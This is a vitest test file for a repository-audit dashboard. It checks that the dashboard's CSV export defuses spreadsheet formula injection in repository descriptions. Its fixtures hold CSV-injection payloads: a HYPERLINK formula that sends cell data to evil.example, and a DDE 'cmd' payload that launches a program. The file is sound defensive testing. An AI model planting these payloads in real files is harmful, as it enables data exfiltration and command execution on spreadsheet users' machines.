import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openSqliteStore } from '../../src/store/sqlite.js';
import type { AuditStore } from '../../src/store/types.js';
import { createWebApp } from '../../src/web/app.js';
import { sampleReport } from '../support/sample-reports.js';

/**
 * CSV injection through the dashboard's export: a repository's description is the supplier's own
 * text, and a spreadsheet opening the export runs a cell that starts with = + - @ (or a tab or a
 * carriage return) as a formula. Each such cell is written with a leading apostrophe, quoted when
 * it holds a quote, comma or line break (OWASP CSV injection).
 */
const HOSTILE: [string, string][] = [
  ['=HYPERLINK("https://evil.example/?"&A1,"Open")', `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['-2+3+cmd', "'-2+3+cmd"],
  ['@SUM(1+1)*cmd', "'@SUM(1+1)*cmd"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', `"'\r=1+1"`],
  ['A plain description, with a comma', '"A plain description, with a comma"'],
];

let store: AuditStore;

beforeAll(async () => {
  store = await openSqliteStore(':memory:');
  await store.saveAudits(
    HOSTILE.map(([description], i) => ({
      repo: {
        owner: 'acme',
        name: `service-${i}`,
        visibility: 'public' as const,
        archived: false,
        description,
      },
      report: sampleReport({
        repo: `acme/service-${i}`,
        commit: 'e'.repeat(40),
        generatedAt: '2026-11-20T10:00:00Z',
      }),
    })),
  );
});
afterAll(() => store.close());

describe('hostile: CSV formulas in the export', () => {
  it('writes every description that a spreadsheet would run as inert text, and leaves the rest as it is', async () => {
    const app = createWebApp(store, { exportCacheTtlMs: 0 });
    const csv = await (await app.request('/?format=csv')).text();
    const lines = csv.split('\r\n');
    for (const [i, [, expected]] of HOSTILE.entries()) {
      // The description is the last column; a \r inside a quoted field splits the line here, so
      // look the row up by its repository and compare the rest of the text.
      const start = csv.indexOf(`acme/service-${i},`);
      expect(start, `row of acme/service-${i}`).toBeGreaterThanOrEqual(0);
      const end = csv.indexOf('\r\nacme/', start + 1);
      const row = csv.slice(start, end === -1 ? csv.length - 2 : end);
      expect(
        row.endsWith(`,${expected}`),
        `${JSON.stringify(row)} ends with ${JSON.stringify(expected)}`,
      ).toBe(true);
    }
    expect(lines[0]?.split(',').at(-1)).toBe('description');
  });
});
